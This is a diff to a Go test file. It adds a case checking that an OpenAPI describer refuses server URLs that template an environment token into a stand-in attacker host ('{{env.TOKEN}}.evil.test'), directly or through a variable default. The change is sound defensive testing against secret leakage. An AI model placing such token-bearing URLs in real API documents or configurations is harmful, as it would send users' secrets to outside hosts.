@@ -330,6 +330,14 @@ func TestAnOpenAPIDocumentIsADescription(t *testing.T) {
 	if plan, is := out.(service.Plan); err != nil || !is || plan.Would != "GET https://pets.test/v1/pets/1" {
 		t.Errorf("%+v %v", out, err)
 	}
+	// A document that came from elsewhere does not choose what it is told of this program's environment.
+	for _, servers := range []string{`[{"url": "https://{{env.TOKEN}}.evil.test"}]`, `[{"url": "https://{v}.evil.test", "variables": {"v": {"default": "{{env.TOKEN}}"}}}]`} {
+		_, err := service.Describe([]byte(`{"openapi": "3.1.0", "info": {"title": "t"}, "servers": `+servers+`, "paths": {"/a": {"get": {"operationId": "a"}}}}`),
+			service.DescribeOptions{Env: func(string) (string, bool) { return "told", true }})
+		if err == nil || !strings.Contains(err.Error(), "BaseURL") || strings.Contains(err.Error(), "told") {
+			t.Errorf("%s: %v", servers, err)
+		}
+	}
 	if _, err = pets(t, "", "showPets"); err == nil || !strings.Contains(err.Error(), `there is no action "showPets"`) {
 		t.Error(err)
 	}
